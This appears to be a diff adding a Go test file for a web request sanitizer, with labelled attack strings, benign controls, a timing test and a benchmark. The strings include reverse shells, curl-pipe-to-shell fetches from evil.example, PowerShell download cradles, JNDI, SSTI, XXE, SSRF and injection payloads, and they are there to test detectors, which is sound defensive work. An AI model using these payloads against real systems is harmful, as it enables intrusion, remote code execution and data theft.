@@ -1,0 +1,397 @@
+package sanitize
+
+import (
+	"strings"
+	"testing"
+	"time"
+)
+
+// detectorCases are attacks (want = the rule) and benign controls (want = "") run through the
+// normalizer and every detector on a route with the default config.
+var detectorCases = []struct {
+	want, loc, value string
+}{
+	// cmd_injection: separators and substitutions followed by a command.
+	{RuleCmdInjection, "query.q", ";cat /tmp/x"},
+	{RuleCmdInjection, "query.q", "x;cat /tmp/hosts"},
+	{RuleCmdInjection, "query.q", "| id"},
+	{RuleCmdInjection, "query.q", "1|id"},
+	{RuleCmdInjection, "query.q", "127.0.0.1 && whoami"},
+	{RuleCmdInjection, "query.q", "a$(whoami)"},
+	{RuleCmdInjection, "query.q", "$(cat /tmp/x)"},
+	{RuleCmdInjection, "query.q", "x`id`"},
+	{RuleCmdInjection, "query.q", "`uname -a`"},
+	{RuleCmdInjection, "query.q", ";cat${IFS}/tmp/x"},
+	{RuleCmdInjection, "query.q", ";cat$IFS$9/tmp/x"},
+	{RuleCmdInjection, "query.q", "1;sleep 5"},
+	{RuleCmdInjection, "query.q", "1; sleep 5 #"},
+	{RuleCmdInjection, "query.q", "hello\nwhoami"},
+	{RuleCmdInjection, "query.q", "hello%0acat /tmp/x"},
+	{RuleCmdInjection, "query.q", "& dir"},
+	{RuleCmdInjection, "query.q", "x & dir c:\\"},
+	{RuleCmdInjection, "query.q", "| type c:\\x.txt"},
+	{RuleCmdInjection, "query.q", "cmd.exe /c dir"},
+	{RuleCmdInjection, "query.q", "x|cmd /c whoami"},
+	{RuleCmdInjection, "query.q", "powershell -enc SQBFAFgA"},
+	{RuleCmdInjection, "query.q", "PowerShell.exe -nop -w hidden"},
+	{RuleCmdInjection, "query.q", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"},
+	{RuleCmdInjection, "query.q", "/bin/sh -c id"},
+	{RuleCmdInjection, "query.q", ";nc -e /bin/sh 10.0.0.1 4444"},
+	{RuleCmdInjection, "query.q", "; nc 10.0.0.1 4444 -e sh"},
+	{RuleCmdInjection, "query.q", "; curl http://evil.example/x.sh | sh"},
+	{RuleCmdInjection, "query.q", "curl -s http://evil.example/x|bash"},
+	{RuleCmdInjection, "query.q", ";wget http://evil.example/x -O /tmp/x"},
+	{RuleCmdInjection, "query.q", "&& wget evil.example/x"},
+	{RuleCmdInjection, "query.q", ";c''at /tmp/x"},
+	{RuleCmdInjection, "query.q", ";c\\at /tmp/x"},
+	{RuleCmdInjection, "query.q", ";c\"a\"t /tmp/x"},
+	{RuleCmdInjection, "query.q", ";/???/c?t /tmp/x"},
+	{RuleCmdInjection, "query.q", ";/bi[n]/ca[t] x"},
+	{RuleCmdInjection, "query.q", ";c$@at /tmp/x"},
+	{RuleCmdInjection, "query.q", ";w$@hoami"},
+	{RuleCmdInjection, "query.q", ";who$()ami"},
+	{RuleCmdInjection, "query.q", "{cat,/tmp/x}"},
+	{RuleCmdInjection, "query.q", "x;$SHELL -c id"},
+	{RuleCmdInjection, "query.q", "() { :; }; echo vulnerable"},
+	{RuleCmdInjection, "query.q", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"},
+	{RuleCmdInjection, "query.q", "ls -la"},
+	{RuleCmdInjection, "query.q", "/usr/bin/perl -e 'print 1'"},
+	{RuleCmdInjection, "query.q", "for /f %i in (x.txt) do echo %i"},
+	{RuleCmdInjection, "query.q", "if exist c:\\x.txt echo found"},
+	{RuleCmdInjection, "query.q", "time nohup whoami"},
+	{RuleCmdInjection, "query.q", "%3Bcat%20%2Ftmp%2Fx"},
+	{RuleCmdInjection, "query.q", "%253Bid"},
+	{RuleCmdInjection, "query.q", "&#59;id"},
+	{RuleCmdInjection, "json.cmd", "x; rm -rf /"},
+	{RuleCmdInjection, "cookie.c", "a|whoami"},
+	// cmd_injection benign controls.
+	{"", "query.q", "Tom & Jerry; cats | dogs"},
+	{"", "query.q", "cat / dog food | best price"},
+	{"", "query.q", "sleep 8 hours; eat well"},
+	{"", "query.q", "python -m venv tutorial"},
+	{"", "query.q", "rock & roll; more to come"},
+	{"", "query.q", "dogs; cat people are weird"},
+	{"", "query.q", "passport & ID"},
+	{"", "query.q", "Skills: Java; PHP; Python; Ruby"},
+	{"", "query.q", "Price: $5 or $10 & free shipping"},
+	{"", "query.q", "cat food"},
+	{"", "query.q", "sleep tips for babies"},
+	{"", "query.q", "python tutorial"},
+	{"", "query.q", "curl hair styles"},
+	{"", "query.q", "powershell tutorial"},
+	{"", "query.q", "whoami lyrics"},
+	{"", "query.q", "time flies like an arrow"},
+	{"", "query.q", "Q&A: what is 2 + 2?"},
+	{"", "query.q", "https://example.com/bin/download?id=5&x=1"},
+	{"", "query.q", "jane.doe@example.com"},
+	{"", "query.q", "a | b | c"},
+	{"", "query.q", "Hello,\nCat and I will be late.\nThanks"},
+	{"", "json.code", "x = items.filter(i => i.ok || i.force); done();"},
+	{"", "json.code", "for (i = 0; i < n; i++) { printf(\"%d\", i); }"},
+	{"", "json.code", "for x in (1, 2, 3): print(x)"},
+	{"", "json.code", "if a == b: return"},
+	{"", "json.code", "x = a || b; y = c && d;"},
+	{"", "json.text", "Use the cd-rom; then type your name."},
+	{"", "json.text", "I'm at home; call me later"},
+	{"", "json.text", "Fish & Chips - £9.50; Kids menu | Drinks"},
+	{"", "json.text", "Meeting @ 10:30 (bring laptop)"},
+	{"", "json.text", "2*(3+4)/7 = 2"},
+	{"", "json.text", "C:\\Users\\me\\Documents"},
+	{"", "json.text", "/home/user/documents/report.docx"},
+	{"", "json.text", "see https://en.wikipedia.org/wiki/Cat_(disambiguation)"},
+	{"", "json.text", "50% off; today only!"},
+	{"", "json.text", "Tom & Jerry's; set of 3 | start: Monday"},
+	{"", "json.text", "He said find me later; I agreed."},
+
+	// sqli additions: tautologies and subqueries
+	{RuleSQLi, "query.q", " or 2=2"},
+	{RuleSQLi, "query.q", "/*x*/and/**/2=2"},
+	{RuleSQLi, "query.q", "1 ,(SELECT CASE WHEN 5914=5914 THEN 1 ELSE 0 END)"},
+	{"", "query.q", "in case when you arrive, then call"},
+	{"", "query.q", "x or 2"},
+	{"", "json.body", "Reacted spelt - vacuously Japanese (70) anoraks clumps it's egg headmaster..."},
+	{"", "json.body", "Gladiolas lectures parochialism - ridiculous benchmark (70) worriers, coalesce (79) anoraks"},
+	{RuleSQLi, "query.q", "database ("},
+	{RuleSQLi, "query.q", "1 and sleep (5)"},
+
+	// path_traversal additions
+	{RuleTraversal, "query.f", "..%u2216..%u2216etc/passwd"},
+	{RuleTraversal, "query.f", "..0x5c..0x5cboot.ini"},
+	{RuleTraversal, "query.f", "C:/inetpub/wwwroot/global.asa"},
+	{"", "query.q", "wait.. what.. really"},
+	{"", "query.q", "ok… fine… done"},
+
+	// crlf
+	{RuleCRLF, "query.next", "/home%0d%0aSet-Cookie:%20session=x"},
+	{RuleCRLF, "query.next", "/x\r\nLocation: http://evil.example/"},
+	{RuleCRLF, "query.lang", "en%0d%0a%0d%0aHTTP/1.1 200 OK"},
+	{RuleCRLF, "form.r", "a%0AContent-Length:%200"},
+	{RuleCRLF, "cookie.c", "a%0d%0aX-Injected:%201"},
+	{RuleCRLF, "query.q", "%250d%250aSet-Cookie:x=1"},
+	{RuleCRLF, "path[0]", "a%0d%0ab"},
+	{RuleCRLF, "query.a", "GET http://example.com/ HTTP/1.1"},
+	{RuleCRLF, "header.referer", "https://www.example.com/search?q=%0D%0ASet-Cookie%3A%20session%3Devil"},
+	{RuleCRLF, "xml.note", "&#xD;&#xA;Set-Cookie: session=evil"},
+	{"", "form.address", "12 Main St\r\nLocation: Dublin\r\nDate: Monday"},
+	{"", "form.message", "Hello\r\nHost: John\r\nThanks"},
+	{RuleCRLF, "json.note", "a\r\nSet-Cookie: x=1"},
+	{"", "json.note", "Dear team,\r\nDate: Monday\r\nOrigin: Ireland\r\nServer: rack 4"},
+	{"", "query.q", "Set-Cookie header explained"},
+
+	// ssti
+	{RuleSSTI, "query.name", "{{7*7}}"},
+	{RuleSSTI, "query.name", "${7*7}"},
+	{RuleSSTI, "query.name", "<%= 7*7 %>"},
+	{RuleSSTI, "query.name", "#{7*7}"},
+	{RuleSSTI, "query.name", "{{7*'7'}}"},
+	{RuleSSTI, "query.name", "{% import os %}{{ os.popen('id').read() }}"},
+	{RuleSSTI, "query.name", "{{''.__class__.__mro__[1].__subclasses__()}}"},
+	{RuleSSTI, "query.name", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"},
+	{RuleSSTI, "query.name", "{{config}}"},
+	{RuleSSTI, "query.name", "{{ config.items() }}"},
+	{RuleSSTI, "query.name", "{{self.__dict__}}"},
+	{RuleSSTI, "query.name", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"},
+	{RuleSSTI, "query.name", "#set($x = 1)"},
+	{RuleSSTI, "query.name", "${T(java.lang.System).getenv()}"},
+	{RuleSSTI, "query.name", "<%= system('id') %>"},
+	{RuleSSTI, "query.name", "%7B%7B7*7%7D%7D"},
+	{RuleSSTI, "query.name", "{{ 7 * 7 }}"},
+	{"", "query.name", "{{name}}"},
+	{"", "json.tpl", "Hello {{ user.first_name | title }}, your order {{order.id}} shipped"},
+	{"", "json.tpl", "{% if user %}Hi {{ user }}{% endif %}"},
+	{"", "json.tpl", "Total: ${price}"},
+	{"", "json.code", "const msg = `Total: ${items.length * price}`;"},
+	{"", "json.code", "class Foo:\n    def __init__(self):\n        self.x = 1"},
+	{"", "json.tpl", "#{id}"},
+	{"", "json.text", "Use {{ and }} to escape braces"},
+
+	// php_injection, java_injection
+	{RulePHP, "query.cmd", "<?php system('id'); ?>"},
+	{RulePHP, "query.cmd", "<? echo 1"},
+	{RulePHP, "query.x", "$_SERVER['HTTP_HOST'];"},
+	{RulePHP, "query.f", "php://filter/convert.base64-encode/resource=index"},
+	{RulePHP, "query.x", "shell_exec /* x */ ('id')"},
+	{RulePHP, "query.x", "(system)('uname')"},
+	{RulePHP, "query.x", "$__['o'](5)"},
+	{RulePHP, "query.x", "O:8:\"stdClass\":0:{}"},
+	{RulePHP, "query.x", "system('id')"},
+	{"", "query.q", "the system (which is down)"},
+	{"", "json.code", "print(\"hello\")"},
+	{"", "json.code", "printf(\"%s\", name)"},
+	{"", "query.q", "exec summary (draft)"},
+	{RuleJava, "json.x", "java.lang.Runtime"},
+	{RuleJava, "form.x", "java.io.ObjectOutputStream"},
+	{RuleJava, "json.x", "rO0ABXNyABdqYXZh"},
+	{RuleJava, "json.x", "org.apache.commons.collections.functors.InvokerTransformer"},
+	{RuleJava, "json.x", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}"},
+	{"", "json.text", "I learn Java. It is fun"},
+	{"", "json.text", "Download from java.com today"},
+	{"", "json.text", "javascript.info is a good site"},
+
+	// code_injection, ssrf
+	{RuleCode, "json.x", "_$$ND_FUNC$$_function(){require('child_process')}"},
+	{RuleCode, "query.__proto__[admin]", "__proto__[admin]"},
+	{RuleCode, "query.x", "constructor.prototype.isAdmin"},
+	{RuleCode, "query.x", "Process.spawn(\"id\")"},
+	{RuleCode, "query.x", "@{[system 'id']}"},
+	{"", "json.code", "Foo.prototype.bar = function() { return 1; };"},
+	{RuleSSRF, "query.url", "http://169.254.169.254/latest/meta-data/"},
+	{RuleSSRF, "query.url", "http://localhost:8080/admin"},
+	{RuleSSRF, "query.url", "http://127.0.0.1/"},
+	{RuleSSRF, "query.url", "http://2130706433/"},
+	{RuleSSRF, "query.url", "http://0x7f000001/"},
+	{RuleSSRF, "query.url", "https://user@[::1]:80/"},
+	{RuleSSRF, "query.url", "http:127.0.0.1"},
+	{RuleSSRF, "query.url", "gopher://internal:6379/_x"},
+	{RuleSSRF, "query.url", "localhost/"},
+	{RuleSSRF, "query.url", "http://db.cluster.local/x"},
+	{RuleSSRF, "query.url", "host.docker.internal/"},
+	{RulePHP, "query.x", "system(whoami)"},
+	{"", "query.q", "solar system(s) explained"},
+	{"", "query.url", "https://example.com/callback?state=xyz"},
+	{"", "header.referer", "http://localhost:3000/dashboard"},
+	{"", "header.origin", "http://127.0.0.1:8080"},
+	{RuleSSRF, "query.page", "https://evil.example/shell.txt?"},
+	{"", "query.q", "is https://example.com down?"},
+	{"", "query.q", "localhost is a hostname"},
+	{"", "query.q", "http 2.0 vs 1.1"},
+	{"", "query.q", "see https://10minutemail.com/"},
+
+	// ldap
+	{RuleLDAP, "form.user", "*)(uid=*))(|(uid=*"},
+	{RuleLDAP, "form.user", "admin)(|(password=*)"},
+	{RuleLDAP, "form.user", "*)(&"},
+	{RuleLDAP, "form.user", "admin)(|"},
+	{RuleLDAP, "form.user", "(objectClass=*)"},
+	{RuleLDAP, "form.user", "x)(&(objectCategory=person)"},
+	{RuleLDAP, "form.user", "admin*)((|userPassword=*)"},
+	{"", "form.text", "(see above)(and below)"},
+	{"", "json.code", "memset(&(x), 0, n);"},
+	{"", "json.text", "(a+b)*(c-d)"},
+	{"", "json.text", "f(x)(y) = 3"},
+	{"", "json.text", "Smiles :) (really)"},
+
+	// xxe
+	{RuleXXE, "form.x", "<!ENTITY xxe SYSTEM \"file:///etc/hostname\">"},
+	{RuleXXE, "json.x", "<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://evil.example/x.dtd\"> %xxe;]>"},
+	{RuleXXE, "json.x", "<!DOCTYPE foo SYSTEM \"http://evil.example/x.dtd\">"},
+	{RuleXXE, "query.x", "%xxe;"},
+	{RuleXXE, "query.x", "SYSTEM 'file:///c:/boot.ini'"},
+	{RuleXXE, "query.x", "%3C%21ENTITY%20x%20SYSTEM%20%22file%3A%2F%2F%2Fx%22%3E"},
+	{"", "json.text", "The system \"works\" fine"},
+	{"", "json.text", "50%; 20%; 30%"},
+	{"", "json.code", "printf(\"%d;\", x)"},
+
+	// jndi
+	{RuleJNDI, "header.user-agent", "${jndi:ldap://evil.example/a}"},
+	{RuleJNDI, "query.q", "${${lower:j}ndi:ldap://x/a}"},
+	{RuleJNDI, "query.q", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"},
+	{RuleJNDI, "query.q", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}"},
+	{RuleJNDI, "query.q", "${j${k8s:k5:-ND}i:ldap://x/a}"},
+	{RuleJNDI, "query.q", "${env:AWS_SECRET_ACCESS_KEY}"},
+	{RuleJNDI, "query.q", "${sys:java.version}"},
+	{RuleJNDI, "query.q", "%24%7Bjndi%3Adns%3A%2F%2Fx%7D"},
+	{RuleJNDI, "query.q", "${ jndi:ldap://x/a}"},
+	{RuleJNDI, "json.q", "$\\u007Bjndi:dns://x/a}"},
+	{RuleJNDI, "json.q", "$&LBRACE;jndi:dns://x/a}"},
+	{"", "json.code", "const s = `${user.name}: ${count}`;"},
+	{"", "json.text", "costs ${price} dollars"},
+
+	// nosql
+	{RuleNoSQL, "query.user[$ne]", "user[$ne]"},
+	{RuleNoSQL, "json.password.$gt", "$gt"},
+	{RuleNoSQL, "query.q", "{\"$where\": \"sleep(100)\"}"},
+	{RuleNoSQL, "query.q", "[$regex]=.*"},
+	{RuleNoSQL, "json.q", "$expr"},
+	{RuleNoSQL, "json.q", "'; return true; var x='"},
+	{"", "query.q", "$5 or $10"},
+	{"", "query.q", "costs $ne"[0:6]},
+	{"", "json.text", "use $inner and $gtx vars"},
+
+	// scanner
+	{RuleScanner, "header.user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
+	{RuleScanner, "header.user-agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"},
+	{RuleScanner, "header.user-agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"},
+	{RuleScanner, "header.user-agent", "Fuzz Faster U Fool v2.1.0 (ffuf)"},
+	{RuleScanner, "header.user-agent", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"},
+	{RuleScanner, "header.user-agent", "gobuster/3.6"},
+	{RuleScanner, "header.user-agent", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"},
+	{"", "header.user-agent", "curl/8.5.0"},
+	{"", "header.user-agent", "Wget/1.21.4"},
+	{"", "header.user-agent", "python-requests/2.31.0"},
+	{"", "header.user-agent", "Go-http-client/1.1"},
+	{"", "header.user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"},
+	{"", "header.referer", "https://en.wikipedia.org/wiki/Atomic_nuclei"},
+	{"", "query.q", "sqlmap tutorial"},
+
+	// Ordinary header values, should every header be inspected.
+	{"", "header.accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"},
+	{"", "header.accept-language", "en-US,en;q=0.9,de;q=0.8"},
+	{"", "header.accept-encoding", "gzip, deflate, br, zstd"},
+	{"", "header.cache-control", "no-cache, no-store, must-revalidate"},
+	{"", "header.content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"},
+	{"", "header.sec-ch-ua", "\"Chromium\";v=\"128\", \"Not;A=Brand\";v=\"24\", \"Google Chrome\";v=\"128\""},
+	{"", "header.authorization", "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl"},
+	{"", "header.x-forwarded-for", "203.0.113.7, 10.0.0.1"},
+	{"", "header.if-none-match", "W/\"5e15153d-120f\""},
+	{"", "header.traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"},
+	{"", "header.forwarded", "for=192.0.2.60;proto=http;by=203.0.113.43"},
+	{"", "header.user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36"},
+	{"", "header.user-agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1"},
+	{"", "header.user-agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"},
+	{"", "header.user-agent", "okhttp/4.12.0"},
+	{"", "header.referer", "https://www.google.com/search?q=tom+%26+jerry&hl=en"},
+	{"", "header.cookie", "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000; theme=dark"},
+}
+
+func TestDetectors(t *testing.T) {
+	p, err := Parse([]byte(`{}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := p.(*Policy).def
+	n := p.(*Policy).norm
+	for _, c := range detectorCases {
+		enc := encNone
+		if c.loc[:5] == "query" || c.loc[:4] == "form" {
+			enc = encQuery
+		} else if c.loc[:4] == "path" || c.loc[:6] == "cookie" {
+			enc = encURL
+		}
+		v, _ := n.normalize(c.value, enc)
+		if got, _ := r.detect(v, c.loc); got != c.want {
+			t.Errorf("%s %q: got %q, want %q", c.loc, c.value, got, c.want)
+		}
+	}
+}
+
+// TestDetectorsLinear runs every detector on long adversarial values (repeated openers without
+// closers, separators, globs, wrappers, nested lookups): 16 times the input must cost far less
+// than 256 times the time (quadratic), whatever the machine's load: the best of 3 runs on 4 KiB
+// and on 64 KiB are compared.
+func TestDetectorsLinear(t *testing.T) {
+	p, err := Parse([]byte(`{}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := p.(*Policy).def
+	best := func(v, loc string) time.Duration {
+		d := time.Duration(1 << 62)
+		for i := 0; i < 3; i++ {
+			start := time.Now()
+			r.detect(normalized{text: v, folded: v}, loc)
+			d = min(d, time.Since(start))
+		}
+		return d
+	}
+	for _, unit := range []string{
+		"${", "${a", "${a:-", "{{", "{{7", "<%", "#{", "{%", ";c?t", ";time ", "time;", "|", "{a,",
+		"$", "${x}", "(", ")(", "(&(uid=", "%abc", "system \"", "<!doctype", "\n", "\nx-a", "get ",
+		" -", "/???/", "[", "$((", "`", "if ", "for /", "${${", "${j${x:-", "'", "\\", "a=b ",
+		"nmap", "dirb", "*/(", "on", "union/**/", "$_(", "o:1:", "<?", "java.", "](", "http:", "@{[",
+	} {
+		small, large := strings.Repeat(unit, 4096/len(unit)), strings.Repeat(unit, 65536/len(unit))
+		for _, loc := range []string{"query.q", "header.user-agent", "path[0]"} {
+			ts, tl := best(small, loc), best(large, loc)
+			if tl > 64*ts+10*time.Millisecond {
+				t.Errorf("%q at %s: %d bytes took %v, %d bytes %v: not linear", unit, loc, len(small), ts, len(large), tl)
+			}
+		}
+	}
+}
+
+// BenchmarkDetectors times each detector on typical request values (the common case: every
+// value of every request goes through all of them):
+//
+//	go test -run '^$' -bench BenchmarkDetectors -benchmem ./plugins/sanitize
+func BenchmarkDetectors(b *testing.B) {
+	p, err := Parse([]byte(`{}`))
+	if err != nil {
+		b.Fatal(err)
+	}
+	r := p.(*Policy).def
+	// What a typical GET and JSON POST carry: words, names, dates, URLs, a browser User-Agent,
+	// cookie values, a sentence.
+	var values []normalized
+	for _, w := range []string{
+		"shoes", "en", "2", "Siobhán O'Brien", "2024-01-01T00:00:00Z", "https://www.example.com/search?q=shoes&page=2",
+		"jane.doe@example.com", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+		"7f3a9c2e41", "dark", "TSHIRT-RED-M", "Please select your plan before checkout",
+	} {
+		values = append(values, normalized{text: w, folded: lower(w)})
+	}
+	for _, d := range detectors {
+		b.Run(d.rule, func(b *testing.B) {
+			for i := 0; i < b.N; i++ {
+				v := values[i%len(values)]
+				d.match(r, v, "query.q")
+			}
+		})
+	}
+	b.Run("all", func(b *testing.B) {
+		b.ReportAllocs()
+		for i := 0; i < b.N; i++ {
+			r.detect(values[i%len(values)], "query.q")
+		}
+	})
+}
